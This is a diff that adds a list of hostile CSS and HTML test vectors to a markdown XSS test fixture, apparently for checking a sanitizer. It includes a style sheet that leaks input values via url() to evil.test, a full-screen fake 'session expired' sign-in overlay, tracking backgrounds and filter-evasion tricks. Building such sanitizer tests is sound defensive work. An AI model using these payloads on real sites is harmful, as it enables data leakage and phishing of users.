@@ -108,3 +108,48 @@ export const XSS_MARKDOWN_VECTORS: readonly XssVector[] = [
   { name: 'raw iframe', html: `<iframe src="${js}window.__xss=1"></iframe>` },
   { name: 'inline html link', html: `text <a href="${js}window.__xss=1">x</a> text` },
 ];
+
+/**
+ * Hostile styles (issue 35): content that reaches past its own box to the page. None runs code;
+ * each tries to restyle the page (and so hide the watermark), paint over the app, leak the page's
+ * contents to another host or borrow the page's own classes. Markdown; raw HTML passes through it.
+ */
+export const STYLE_ESCAPE_VECTORS: readonly XssVector[] = [
+  { name: 'style sheet filter on html (not first)', html: 'x<style>html{filter:brightness(1.25)}</style>' },
+  { name: 'style sheet first', html: '<style>body{opacity:0.2}</style>\n\nx' },
+  {
+    name: 'style sheet leaking attributes by url()',
+    html: 'x<style>input[value^="a"]{background:url(https://evil.test/leak?a)}</style>',
+  },
+  {
+    name: 'fixed full-screen panel',
+    html: '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Session expired: sign in at evil.test</div>',
+  },
+  { name: 'sticky panel', html: '<div style="position:sticky;top:0;z-index:9">x</div>' },
+  { name: 'absolute panel', html: '<div style="position:absolute;top:0;left:0;width:100vw">x</div>' },
+  { name: 'uppercase and spaced position', html: '<div style="POSITION : FIXED ; TOP:0">x</div>' },
+  { name: 'escaped position', html: '<div style="posit\\69 on:fixed;top:0">x</div>' },
+  { name: 'commented position', html: '<div style="posi/**/tion:fixed;top:0">x</div>' },
+  { name: 'important z-index', html: '<p style="z-index:99999 !important">x</p>' },
+  { name: 'negative margin', html: '<p style="margin-top:-5000px;margin-left:-9999px">x</p>' },
+  { name: 'negative indent', html: '<p style="text-indent:-9999px">x</p>' },
+  { name: 'calc negative margin', html: '<p style="margin-top:calc(0px - 5000px)">x</p>' },
+  { name: 'variable margin', html: '<p style="margin-top:var(--x, -5000px)">x</p>' },
+  { name: 'transform out', html: '<p style="transform:translate(-100vw,-100vh) scale(9)">x</p>' },
+  { name: 'translate property', html: '<p style="translate:-100vw -100vh">x</p>' },
+  { name: 'filter on content', html: '<p style="filter:brightness(2);backdrop-filter:blur(0)">x</p>' },
+  { name: 'blend mode', html: '<p style="mix-blend-mode:difference">x</p>' },
+  { name: 'foreign background url', html: '<p style="background:url(https://evil.test/track.png)">x</p>' },
+  {
+    name: 'protocol-relative background url',
+    html: '<p style="background-image:url(//evil.test/t.png)">x</p>',
+  },
+  { name: 'backslash background url', html: '<p style="background-image:url(/\\evil.test/t.png)">x</p>' },
+  { name: 'clip path and mask', html: '<p style="clip-path:inset(0);mask:none">x</p>' },
+  { name: 'pointer events none overlay', html: '<p style="pointer-events:none;position:fixed">x</p>' },
+  {
+    name: 'page classes (antd mask)',
+    html: '<div class="ant-modal-mask">x</div><div class="ant-modal-wrap">y</div>',
+  },
+  { name: 'animation', html: '<p style="animation:spin 1s infinite">x</p>' },
+];
